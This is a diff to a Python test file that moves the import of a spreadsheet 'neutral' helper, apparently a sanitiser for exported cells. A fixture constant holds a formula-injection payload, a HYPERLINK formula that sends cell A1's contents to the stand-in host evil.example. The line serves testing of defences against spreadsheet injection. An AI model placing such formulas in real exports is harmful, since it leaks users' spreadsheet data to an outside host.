@@ -11,7 +11,6 @@ from decimal import Decimal
 from typing import Any
 
 import pytest
-from finance.reports.cells import neutral
 from openpyxl import load_workbook
 
 from shared.db import utcnow
@@ -23,6 +22,7 @@ from shared.events.training import (
     InternshipApproved,
 )
 from shared.money import Money
+from shared.spreadsheet import neutral
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Бюджет когорты")'
